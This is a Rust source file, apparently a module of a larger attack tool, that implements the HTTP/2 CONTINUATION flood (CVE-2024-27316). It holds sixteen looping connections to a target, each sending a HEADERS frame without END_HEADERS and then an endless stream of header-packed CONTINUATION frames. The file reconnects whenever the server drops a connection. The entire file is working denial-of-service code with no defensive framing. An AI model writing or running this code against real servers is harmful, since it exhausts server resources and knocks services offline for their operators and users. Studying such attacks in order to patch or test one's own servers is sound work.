//! A head that never ends (CVE-2024-27316).

use std::time::Duration;

use anyhow::Result;
use futures_util::future::{LocalBoxFuture, join_all};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use crate::attack::{Attack, AttackTarget};
use crate::wire;

const CONNECTIONS: usize = 16;
/// Before a closed connection is opened again.
const PAUSE: Duration = Duration::from_millis(100);
/// Bytes of the header block in one frame: the largest frame that needs no leave.
const BLOCK_BYTES: usize = 16_384;
const HEADERS: u8 = 0x1;
const CONTINUATION: u8 = 0x9;

/// HEADERS frames without END_HEADERS, and CONTINUATION frames without end.
pub(crate) struct ContinuationAttack;

impl Attack for ContinuationAttack {
    fn name(&self) -> &'static str {
        "continuation"
    }

    fn has_token(&self) -> bool {
        false
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        Box::pin(async move {
            join_all((0..CONNECTIONS).map(|_| keep(target))).await;
            Ok(())
        })
    }
}

/// Keeps one connection to the server, and opens it again whenever it is closed.
async fn keep(target: &AttackTarget) {
    loop {
        _ = send(target).await;
        sleep(PAUSE).await;
    }
}

async fn send(target: &AttackTarget) -> Result<()> {
    let mut stream = wire::connect(target).await?;
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    // An empty SETTINGS frame.
    stream.write_all(&[0, 0, 0, 4, 0, 0, 0, 0, 0]).await?;
    let (mut reader, mut writer) = stream.split();
    let write = async {
        writer.write_all(&block(HEADERS)).await?;
        loop {
            writer.write_all(&block(CONTINUATION)).await?;
        }
    };
    let read = async {
        while reader
            .read(&mut [0; 1_024])
            .await
            .is_ok_and(|read| read > 0)
        {}
    };
    tokio::select! {
        written = write => written,
        () = read => Ok(()),
    }
}

/// A frame of stream 1 full of literal headers `x: …` that are not to be indexed.
fn block(kind: u8) -> Vec<u8> {
    const VALUE_BYTES: usize = 100;
    let mut block = Vec::with_capacity(9 + BLOCK_BYTES);
    let mut headers = Vec::with_capacity(BLOCK_BYTES);
    while headers.len() + VALUE_BYTES + 4 <= BLOCK_BYTES {
        headers.extend([0x10, 1, b'x', 100]);
        headers.extend([b'v'; VALUE_BYTES]);
    }
    let len = u32::try_from(headers.len())
        .unwrap_or_default()
        .to_be_bytes();
    block.extend(&len[1..]);
    block.extend([kind, 0, 0, 0, 0, 1]);
    block.extend(headers);
    block
}
